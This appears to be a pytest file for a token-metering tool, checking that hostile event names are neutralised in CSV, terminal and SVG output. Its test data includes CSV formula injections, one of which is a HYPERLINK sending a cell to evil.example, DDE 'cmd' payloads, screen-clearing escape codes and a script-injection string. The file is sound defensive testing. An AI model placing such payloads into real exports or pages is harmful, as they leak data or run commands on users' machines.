"""Output is safe with hostile names in the events: CSV cells are no formulas, terminal tables
show control characters escaped, charts draw `$...$` as written."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from decimal import Decimal
from pathlib import Path

import pytest

from conftest import MINIMAL_CONFIG, TERMINAL, Gateway, make_event
from tokometer.analytics import report
from tokometer.analytics.cells import spreadsheet_safe
from tokometer.analytics.charts import report_chart, svg
from tokometer.cli import main
from tokometer.ledger import SQLiteLedger, open_store
from tokometer.ledger.signer import load_signer

TENANT = '=HYPERLINK("http://evil.example/?"&A1,"click")'
APP = "+1+cmd|' /C calc'!A0"
AGENT = "@SUM(1+1)*cmd|' /C calc'!A0"
TASK = "-2+3+cmd|' /C calc'!A0"
END_USER = "\t=1+1"
MODEL = "\r=1+1"
FORMULAS = {"tenant": TENANT, "app": APP, "agent": AGENT, "task": TASK, "end_user": END_USER,
            "model": MODEL}
CLEAR = "job\x1b[2J\x1b[H"  # clears the screen
MATH = ["$\\frac{a}{b}$", "$\\nosuchcommand$", "$x"]
MARKUP = "</svg><script>alert(1)</script>"
HIDDEN = "_nolegend_"  # matplotlib leaves a label starting with "_" out of a legend



HOSTILE = [
    make_event(**FORMULAS),
    make_event(tenant="-5", app="plain", agent=MATH[0], model=TERMINAL, task=CLEAR,
          output_tokens=-100, cost=Decimal("-0.0042"), usage_source="correction"),
    make_event(agent=MATH[1], model=MATH[1]),
    make_event(agent=MATH[2], model=MATH[2]),
    make_event(agent=MARKUP),
    make_event(agent=HIDDEN),
]


@pytest.fixture(scope="module")
def config(tmp_path_factory):
    work = tmp_path_factory.mktemp("hostile")

    async def fill() -> None:
        ledger = SQLiteLedger(work / "t.db", load_signer(work / "key.pem", None))
        ledger.start()
        for e in HOSTILE:
            await ledger.append(e)
        await ledger.close()

    asyncio.run(fill())
    path = work / "t.toml"
    path.write_text(f'[server]\nstore = "sqlite:///{work}/t.db"\nsigning_key = "{work}/key.pem"\n'
                    f'{MINIMAL_CONFIG}')
    return str(path)


def run(capsys, *args: str) -> str:
    assert main(list(args)) == 0
    return capsys.readouterr().out


def rows_by_id(text: str) -> dict[str, dict[str, str]]:
    return {r["id"]: r for r in csv.DictReader(io.StringIO(text))}


@pytest.mark.parametrize("value", [*FORMULAS.values(), "=1", "+", "-", "@", "\t", "\r",
                                   "-1+2", "-1e5", "- 1", "--1"])
def test_a_cell_that_starts_a_formula_gets_a_quote(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["-0.0042", "-5", "12", "0.5", 12, -7, None, "acme",
                                   "a=b", " =1", "\n=1"])
def test_numbers_and_other_cells_are_left_as_they_are(value):
    assert spreadsheet_safe(value) == value


def check_csv(rows: dict[str, dict[str, str]]) -> None:
    first, second = rows[HOSTILE[0].id], rows[HOSTILE[1].id]
    for field, value in FORMULAS.items():
        assert first[field] == "'" + value, field
    assert (first["input_tokens"], first["output_tokens"], first["cost"]) == ("12", "30", "0.01")
    # A negative number stays a number: a refund's cost, a correction's tokens, a tenant "-5".
    assert (second["cost"], second["output_tokens"], second["tenant"]) == ("-0.0042", "-100",
                                                                           "-5")


def test_events_csv_neutralises_formulas(config, capsys):
    check_csv(rows_by_id(run(capsys, "events", "--config", config, "--format", "csv")))


def test_export_csv_neutralises_formulas(config, capsys, tmp_path):
    out = tmp_path / "events.csv"
    run(capsys, "export", "--config", config, "--format", "csv", "-o", str(out))
    with out.open(newline="", encoding="utf-8") as f:  # a CR inside a cell stays a CR
        check_csv(rows_by_id(f.read()))


def test_report_csv_neutralises_formulas(config, capsys):
    out = run(capsys, "report", "--config", config, "--by", "tenant,app,agent,task,model",
              "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    hostile = next(r for r in rows if r["app"] == "'" + APP)
    assert {k: hostile[k] for k in ("tenant", "agent", "task", "model")} == {
        k: "'" + FORMULAS[k] for k in ("tenant", "agent", "task", "model")}
    refund = next(r for r in rows if r["app"] == "plain")
    assert (refund["tenant"], refund["output_tokens"], refund["cost"]) == ("-5", "-100",
                                                                           "-0.0042")


def test_terminal_tables_show_control_characters_escaped(config, capsys):
    for out in (run(capsys, "report", "--config", config, "--by", "tenant,model"),
                run(capsys, "tasks", "--config", config)):
        assert not any(c in out for c in "\x1b\x07\r\t\u202e")
    report = run(capsys, "report", "--config", config, "--by", "tenant,model")
    assert "\\x1b[31mred\\x1b]0;pwned\\x07\\u202eevil" in report and "\\r=1+1" in report
    assert "job\\x1b[2J\\x1b[H" in run(capsys, "tasks", "--config", config)


def test_a_hostile_receipt_cannot_drive_the_terminal(config, capsys, monkeypatch):
    receipt = json.loads(run(capsys, "receipt", HOSTILE[0].id, "--config", config))
    pubkey = run(capsys, "ledger", "pubkey", "--config", config).strip()
    receipt["event"]["leaf_index"] = CLEAR
    monkeypatch.setattr("sys.stdin", io.StringIO(json.dumps(receipt)))
    assert main(["verify-receipt", "-", "--pubkey", pubkey]) == 1
    out = capsys.readouterr().out
    assert "\x1b" not in out and "the event says leaf job\\x1b[2J\\x1b[H, the receipt" in out


@pytest.mark.parametrize("suffix", [".svg", ".png"])
def test_chart_labels_are_never_math_text(config, capsys, tmp_path, suffix):
    """An unknown command in `$...$` used to stop the drawing; `$\\frac{a}{b}$` was typeset."""
    report_chart = tmp_path / f"report{suffix}"
    rankings_chart = tmp_path / f"rankings{suffix}"
    run(capsys, "report", "--config", config, "--by", "agent", "--chart", str(report_chart))
    run(capsys, "rankings", "--config", config, "--by", "model", "--chart", str(rankings_chart))
    if suffix == ".svg":  # SVG keeps text as text: each label is there as it was written
        assert all(agent in report_chart.read_text() for agent in [*MATH, HIDDEN])
        models = rankings_chart.read_text()
        assert MATH[1] in models and MATH[2] in models
        assert "\\x1b[31mred\\x1b]0;pwned\\x07\\u202eevil" in models  # escaped, not obeyed
    else:
        assert report_chart.read_bytes()[:4] == rankings_chart.read_bytes()[:4] == b"\x89PNG"


def test_attribution_from_a_real_gateway_is_neutralised_too(gateway: Gateway, capsys):
    """The key's tenant and app and the request's agent and task headers, as sent."""
    key, _ = gateway.new_key(TENANT, APP)
    r = gateway.chat("gpt-4o-mini", "x", key=key,
                     headers={"x-tokometer-agent": AGENT, "x-tokometer-task": TASK})
    assert r.status_code == 200, r.text
    rows = rows_by_id(run(capsys, "events", "--config", str(gateway.config), "--format", "csv"))
    row = rows[r.headers["x-tokometer-event-id"]]
    assert (row["tenant"], row["app"], row["agent"], row["task"]) == (
        "'" + TENANT, "'" + APP, "'" + AGENT, "'" + TASK)
    assert Decimal(row["cost"]) == Decimal(r.headers["x-tokometer-cost"])


def test_a_chart_in_a_page_carries_no_markup_from_a_name(config):
    """The dashboard puts charts' SVG in its pages as it is: names in it must stay text."""
    store = Path(config).with_name("t.db")
    conn = open_store(store)
    try:
        drawn = svg(report_chart, report(conn, ["agent"]), ["agent"], None)
    finally:
        conn.close()
    assert "<script" not in drawn and "&lt;/svg&gt;&lt;script&gt;alert(1)" in drawn
    assert drawn.count("<svg") == 1 and drawn.rstrip().endswith("</svg>")
